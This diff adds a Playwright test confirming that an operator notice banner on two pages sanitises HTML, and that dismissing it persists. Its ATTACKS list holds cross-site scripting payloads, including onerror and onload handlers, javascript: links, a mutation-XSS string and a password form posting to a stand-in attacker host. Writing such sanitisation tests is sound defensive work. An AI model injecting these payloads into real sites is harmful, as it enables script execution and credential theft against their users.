@@ -1,0 +1,45 @@
+import { expect, test } from '@playwright/test'
+import { hideBanner, setBanner } from './operator.ts'
+
+test.describe.configure({ mode: 'serial' })
+
+test.afterAll(hideBanner)
+
+const ATTACKS = [
+  '<img src=x onerror="window.attacked=1">',
+  '<svg onload="window.attacked=1"></svg>',
+  '<a href="javascript:window.attacked=1">x</a>',
+  '<script>window.attacked=1</script>',
+  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.attacked=1">',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<div style="position:fixed;inset:0">x</div>',
+]
+
+for (const address of ['/home', '/home/links']) {
+  test(`${address}: an operator's message is shown, nothing in it ever runs, closing it lasts, and a new one shows again`, async ({
+    page,
+  }) => {
+    await setBanner(`<b>Load shedding</b>: banks are slow tonight. ${ATTACKS.join('')}`)
+    await page.goto(address)
+    const banner = page.getByRole('region', { name: 'Notice' })
+    await expect(banner.getByText('Load shedding')).toBeVisible()
+    await page.waitForLoadState('networkidle')
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
+    await expect(banner.locator('script, iframe, img, form, input, [onerror], [onload], a[href^="javascript"]')).toHaveCount(0)
+
+    await page.getByRole('button', { name: 'Close this notice' }).click()
+    await expect(banner).toHaveCount(0)
+    await page.reload()
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await expect(banner).toBeHidden()
+
+    await setBanner('<i>All is well again.</i>')
+    await page.reload()
+    await expect(banner.getByText('All is well again.')).toBeVisible()
+    await hideBanner()
+    await page.reload()
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await expect(banner).toHaveCount(0)
+  })
+}
